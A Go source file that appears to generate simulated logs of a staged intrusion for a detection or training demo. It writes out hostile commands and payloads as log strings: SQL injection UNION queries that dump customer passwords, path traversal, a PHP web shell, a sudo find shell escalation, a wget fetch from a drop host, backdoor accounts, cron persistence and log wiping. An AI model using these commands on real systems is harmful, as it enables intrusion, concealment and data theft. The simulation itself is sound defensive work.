package demo

import (
	"fmt"
	"time"
)

// The attacker's addresses: from one everything comes, to the other everything
// goes.
const (
	attacker = "203.0.113.66"
	dropSite = "203.0.113.99"
)

const attackBrowser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

// playPortScan asks for many ports of both public addresses, then looks at what
// answers.
func playPortScan(t *tape) {
	ports := []int{21, 23, 25, 53, 79, 81, 88, 110, 111, 113, 119, 135, 139, 143, 179, 199, 389, 445, 465, 514, 515, 548, 554, 587, 631, 636, 873, 902, 993, 995, 1025, 1080, 1433, 1521, 1720, 1723, 2000, 2049, 2121, 2375, 3128, 3306, 3389, 3690, 4443, 5000, 5060, 5432, 5666, 5900, 6000, 6379, 7001, 8000, 8008, 8081, 8443, 8888, 9000, 9090, 9200, 10000, 11211, 27017}
	for _, target := range []string{bastionPublic, webPublic} {
		for _, port := range ports {
			t.syn("BLOCK", attacker, target, port)
			t.wait(40*time.Millisecond, 300*time.Millisecond)
		}
		t.wait(20*time.Second, 40*time.Second)
	}
	for range 3 {
		t.syn("ALLOW", attacker, bastionPublic, 22)
		t.syslog(bastion, "sshd", t.nextPID(), fmt.Sprintf("banner exchange: Connection from %s port %d: invalid format", attacker, t.port()))
		t.wait(2*time.Second, 5*time.Second)
		t.syslog(bastion, "sshd", t.nextPID(), fmt.Sprintf("Unable to negotiate with %s port %d: no matching host key type found. Their offer: ssh-dss [preauth]", attacker, t.port()))
		t.wait(2*time.Second, 5*time.Second)
	}
}

// ask records a request of the attacker and the time it takes.
func (t *tape) ask(method, path string, status, size int, agent string) {
	t.request(request{attacker, method, path, status, size, "", agent})
	t.wait(80*time.Millisecond, 700*time.Millisecond)
}

func playWebSearch(t *tape) {
	const tool = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"
	t.syn("ALLOW", attacker, webPublic, 443)
	t.ask("GET", "/robots.txt", 200, 112, tool)
	for _, path := range []string{"/.env", "/.git/config", "/.git/HEAD", "/backup.sql", "/.aws/credentials", "/wp-config.php.bak", "/id_rsa", "/docker-compose.yml", "/.htpasswd"} {
		t.ask("GET", path, 404, 153, tool)
	}
	for _, word := range []string{"admin", "administrator", "backup", "bak", "beta", "bin", "cache", "cgi-bin", "cms", "conf", "config", "console", "cron", "data", "db", "debug", "demo", "dev", "docs", "download", "dump", "editor", "export", "files", "forum", "hidden", "include", "install", "internal", "intranet", "log", "logs", "mail", "manage", "media", "monitor", "old", "panel", "phpinfo", "private", "proxy", "report", "root", "secret", "server", "setup", "shell", "sql", "staging", "stats", "temp", "test", "tmp", "tools", "update", "vendor", "webmail", "wiki", "xml", "zip"} {
		t.ask("GET", "/"+word+"/", 404, 153, tool)
	}
	t.ask("GET", "/account/avatar", 302, 0, tool)
	t.ask("GET", "/uploads/", 403, 146, tool)
}

func playGuessing(t *tape) {
	fail := func(user string, known bool) {
		pid := t.nextPID()
		who := user
		if !known {
			who = "invalid user " + user
			t.syslog(bastion, "sshd", pid, fmt.Sprintf("Invalid user %s from %s port %d", user, attacker, t.port()))
			t.syslog(bastion, "sshd", pid, "pam_unix(sshd:auth): check pass; user unknown")
			t.syslog(bastion, "sshd", pid, fmt.Sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s", attacker))
		} else {
			t.syslog(bastion, "sshd", pid, fmt.Sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s", attacker, user))
		}
		t.wait(1500*time.Millisecond, 2500*time.Millisecond)
		t.syslog(bastion, "sshd", pid, fmt.Sprintf("Failed password for %s from %s port %d ssh2", who, attacker, t.port()))
		t.syslog(bastion, "sshd", pid, fmt.Sprintf("Connection closed by %s %s %s port %d [preauth]", map[bool]string{true: "authenticating user", false: "invalid user"}[known], user, attacker, t.port()))
		t.wait(800*time.Millisecond, 2500*time.Millisecond)
	}
	for _, user := range []string{"admin", "oracle", "test", "ubuntu", "git", "postgres1", "jenkins", "ansible", "ftpuser", "support"} {
		fail(user, false)
	}
	for range 24 {
		fail("root", true)
	}
	for range 31 {
		fail("deploy", true)
	}
}

// The account deploy has the password that everybody guesses, and may run find
// as root to clean up after itself.
func playSudo(t *tape) {
	t.syn("ALLOW", attacker, bastionPublic, 22)
	t.signIn(bastion, "deploy", attacker, "password", "")
	run := func(command string) {
		t.wait(20*time.Second, 70*time.Second)
		t.sudo(bastion, "deploy", "pts/1", "/home/deploy", command)
	}
	t.wait(20*time.Second, 30*time.Second)
	t.syslog(bastion, "sudo", 0, "  deploy : command not allowed ; TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/bash")
	run("/usr/bin/find /srv/release -exec /bin/sh -p ; -quit")
	run("/usr/bin/cat /etc/shadow")
	run("/usr/bin/wget -q http://" + dropSite + "/lp.sh -O /tmp/.lp")
	t.packet(packet{action: "ALLOW", in: "eth1", out: "eth0", src: bastionInner, dst: dropSite, srcPort: t.port(), dstPort: 80, length: 60, timeToLive: 63})
}

func playPersistence(t *tape) {
	pid := t.nextPID()
	t.sudo(bastion, "deploy", "pts/1", "/home/deploy", "/usr/sbin/useradd -m -s /bin/bash svc-update")
	t.syslog(bastion, "groupadd", pid, "group added to /etc/group: name=svc-update, GID=1017")
	t.syslog(bastion, "useradd", pid+1, "new user: name=svc-update, UID=1017, GID=1017, home=/home/svc-update, shell=/bin/bash, from=/dev/pts/1")
	t.wait(10*time.Second, 30*time.Second)
	t.syslog(bastion, "passwd", pid+4, "pam_unix(passwd:chauthtok): password changed for svc-update")
	t.sudo(bastion, "deploy", "pts/1", "/home/deploy", "/usr/sbin/usermod -aG sudo svc-update")
	t.syslog(bastion, "usermod", pid+9, "add 'svc-update' to group 'sudo'")
	t.syslog(bastion, "usermod", pid+9, "add 'svc-update' to shadow group 'sudo'")
	t.wait(20*time.Second, 60*time.Second)
	t.sudo(bastion, "deploy", "pts/1", "/home/deploy", "/usr/bin/tee -a /root/.ssh/authorized_keys")
	t.wait(20*time.Second, 60*time.Second)
	t.sudo(bastion, "deploy", "pts/1", "/home/deploy", "/usr/bin/tee /etc/cron.d/sysupd")
	for range 4 {
		t.wait(5*time.Minute, 5*time.Minute)
		t.syslog(bastion, "CRON", t.nextPID(), "(root) CMD (/dev/shm/.sysupd >/dev/null 2>&1)")
	}
}

func playMovement(t *tape) {
	t.signIn(bastion, "svc-update", attacker, "password", "")
	t.wait(30*time.Second, 60*time.Second)
	t.sudo(bastion, "svc-update", "pts/2", "/home/svc-update", "/usr/bin/nmap -sS -p22,80,443,5432 10.20.0.0/22")
	for i := range 24 {
		t.packet(packet{action: "BLOCK", in: "eth1", out: "eth2", src: bastionInner, dst: fmt.Sprintf("10.20.2.%d", 2+i), srcPort: t.port(), dstPort: 22, length: 44, timeToLive: 63})
		t.wait(100*time.Millisecond, 900*time.Millisecond)
	}
	t.wait(time.Minute, 2*time.Minute)
	t.sudo(bastion, "svc-update", "pts/2", "/home/svc-update", "/usr/bin/sshpass -p Summer2026 ssh deploy@"+webInner)
	t.packet(packet{action: "ALLOW", in: "eth1", out: "eth2", src: bastionInner, dst: webInner, srcPort: t.port(), dstPort: 22, length: 60, timeToLive: 63})
	t.signIn(web, "deploy", bastionInner, "password", "")
}

func playWebShell(t *tape) {
	t.ask("GET", "/products/walnut-desk?id=7%27", 500, 212, attackBrowser)
	for _, q := range []string{"7%20AND%201=1", "7%20AND%201=2", "-7%20UNION%20SELECT%201,2,3--%20-", "-7%20UNION%20SELECT%201,table_name,3%20FROM%20information_schema.tables--%20-", "-7%20UNION%20SELECT%201,group_concat(email,0x3a,password),3%20FROM%20customers--%20-"} {
		t.ask("GET", "/products/walnut-desk?id="+q, 200, 11000+t.random.IntN(4000), attackBrowser)
		t.wait(5*time.Second, 20*time.Second)
	}
	for _, f := range []string{"../../../../etc/passwd", "../../../../srv/shop/.env"} {
		t.ask("GET", "/catalogue?file="+f, 200, 1800, attackBrowser)
		t.wait(5*time.Second, 20*time.Second)
	}
	t.ask("POST", "/login", 302, 0, attackBrowser)
	t.ask("POST", "/account/avatar", 302, 0, attackBrowser)
	t.wait(10*time.Second, 20*time.Second)
	t.ask("GET", "/uploads/avatars/8841.php", 200, 0, attackBrowser)
	for _, command := range []string{"id", "uname%20-a", "ls%20-la%20/srv/shop", "cat%20/srv/shop/.env", "sudo%20-l"} {
		t.wait(8*time.Second, 30*time.Second)
		t.ask("GET", "/uploads/avatars/8841.php?cmd="+command, 200, 40+t.random.IntN(2000), attackBrowser)
	}
}

func playCallHome(t *tape) {
	t.ask("POST", "/uploads/avatars/8841.php", 200, 12, attackBrowser)
	t.syslog(web, "sudo", 0, "www-data : TTY=unknown ; PWD=/srv/shop/public/uploads ; USER=root ; COMMAND=/usr/bin/php -r system(\"bash\");")
	out := packet{action: "BLOCK", in: "eth2", out: "eth0", src: webInner, dst: dropSite, dstPort: 4444, length: 60, timeToLive: 63}
	for range 3 {
		out.srcPort = t.port()
		t.packet(out)
		t.wait(time.Second, 3*time.Second)
	}
	t.syslog(web, "crontab", t.nextPID(), "(www-data) REPLACE (www-data)")
	out.dstPort = 8443
	for range 45 {
		out.srcPort = t.port()
		t.packet(out)
		t.wait(9*time.Second, 11*time.Second)
	}
	out.action, out.dstPort, out.srcPort = "ALLOW", 443, t.port()
	t.packet(out) // the one port that the firewall lets out
}

func playTampering(t *tape) {
	for _, step := range []struct{ host, user, command string }{
		{web, "deploy", "/usr/bin/systemctl stop auditd"},
		{web, "deploy", "/usr/sbin/ufw disable"},
		{bastion, "svc-update", "/usr/bin/truncate -s 0 /var/log/auth.log"},
		{bastion, "svc-update", "/usr/bin/rm -f /var/log/wtmp /var/log/btmp"},
		{bastion, "svc-update", "/usr/bin/ln -sf /dev/null /root/.bash_history"},
		{web, "deploy", "/usr/bin/sed -i /8841/d /var/log/nginx/error.log"},
	} {
		t.sudo(step.host, step.user, "pts/2", "/home/"+step.user, step.command)
		t.wait(15*time.Second, 90*time.Second)
	}
}

func playTheft(t *tape) {
	t.sudo(web, "deploy", "pts/2", "/home/deploy", "/usr/bin/tar czf /srv/www/uploads/avatars/b.tgz /srv/shop /home")
	t.wait(3*time.Minute, 4*time.Minute)
	t.sudo(web, "deploy", "pts/2", "/home/deploy", "/bin/sh -c pg_dump -h db-01 shop | gzip > /tmp/.c.sql.gz")
	t.wait(2*time.Minute, 3*time.Minute)
	t.ask("GET", "/uploads/avatars/b.tgz", 200, 734_003_200, "curl/8.5.0")
	t.wait(4*time.Minute, 5*time.Minute)
	t.ask("GET", "/uploads/avatars/c.sql.gz", 200, 88_113_152, "curl/8.5.0")
	out := packet{action: "ALLOW", in: "eth2", out: "eth0", src: webInner, dst: dropSite, dstPort: 443, length: 60, timeToLive: 63}
	for range 6 {
		out.srcPort = t.port()
		t.packet(out)
		t.wait(20*time.Second, 40*time.Second)
	}
	t.ask("GET", "/uploads/avatars/8841.php?cmd=rm%20b.tgz%20c.sql.gz", 200, 0, attackBrowser)
}
